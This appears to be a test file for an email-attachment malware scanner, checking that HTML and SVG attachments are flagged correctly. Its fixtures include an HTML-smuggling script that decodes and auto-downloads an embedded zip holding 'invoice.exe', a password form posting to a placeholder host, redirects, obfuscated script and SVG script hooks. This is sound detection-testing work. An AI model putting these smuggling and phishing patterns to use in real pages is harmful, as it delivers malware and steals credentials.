import { describe, expect, it } from 'vitest';
import { zip } from '../fixtures/archives.ts';
import { windowsProgram } from '../fixtures/programs.ts';
import { judgeFile } from '../fixtures/scan.ts';

const page = (body: string) => Buffer.from(`<!DOCTYPE html><html><body>${body}</body></html>`);
const archive = zip([{ name: 'invoice.exe', bytes: windowsProgram(), stored: true }]).toString('base64');

describe('a page as attachment', () => {
  it('that builds an archive on the reader’s computer is malware, and what it builds is looked at', async () => {
    const { decision, rules } = await judgeFile(
      'voicemail.html',
      page(
        `<script>var d="${archive}";var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download="x.zip";a.click();</script>`,
      ),
    );
    expect(rules).toEqual(expect.arrayContaining(['html-smuggling', 'program-in-archive']));
    expect(decision.verdict).toBe('MALWARE');
  });

  it.each<[string, string, string]>([
    ['asks for a password', '<form action="https://x.example"><input type="password"></form>', 'html-login'],
    ['only leads elsewhere', '<script>window.location="https://x.example"</script>', 'html-redirect'],
    ['hides its content', '<script>document.write(unescape("%3c%68"))</script>', 'html-obfuscated'],
    [
      'offers decoded data',
      '<script>var u=new Uint8Array(9);new Blob([u]);a.download="x";a.click()</script>',
      'html-smuggling-signs',
    ],
  ])('is suspicious when it %s', async (_what, body, rule) => {
    const { decision, rules } = await judgeFile('notice.htm', page(body));
    expect({ verdict: decision.verdict, rules }).toEqual({ verdict: 'SUSPICIOUS', rules: [rule] });
  });

  it('in UTF-16 is read too', async () => {
    const text = '\ufeff<html><input type="password"></html>';
    expect((await judgeFile('notice.html', Buffer.from(text, 'utf16le'))).rules).toEqual(['html-login']);
  });

  it('with words, pictures and a menu script is clean', async () => {
    const bytes = page('<h1>Minutes</h1><img src="data:image/png;base64,iVBORw0KGgo"><script>toggle(menu)</script>');
    expect((await judgeFile('minutes.html', bytes)).rules).toEqual([]);
  });

  it('that passes for a document is reported', async () => {
    expect((await judgeFile('invoice.pdf', page('<h1>Sign in</h1>'))).rules).toEqual(['type-mismatch']);
  });
});

describe('a drawing', () => {
  it.each([
    ['<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://x.example"</script></svg>'],
    ['<?xml version="1.0"?><svg onload="go()"/>'],
    ['<svg><foreignObject><iframe src="https://x.example"/></foreignObject></svg>'],
  ])('that runs something is suspicious: %s', async (text) => {
    const { decision, rules } = await judgeFile('chart.svg', Buffer.from(text));
    expect({ verdict: decision.verdict, rules }).toEqual({ verdict: 'SUSPICIOUS', rules: ['svg-script'] });
  });

  it('of lines is clean', async () => {
    expect((await judgeFile('chart.svg', Buffer.from('<svg><path d="M0 0L9 9"/></svg>'))).rules).toEqual([]);
  });
});
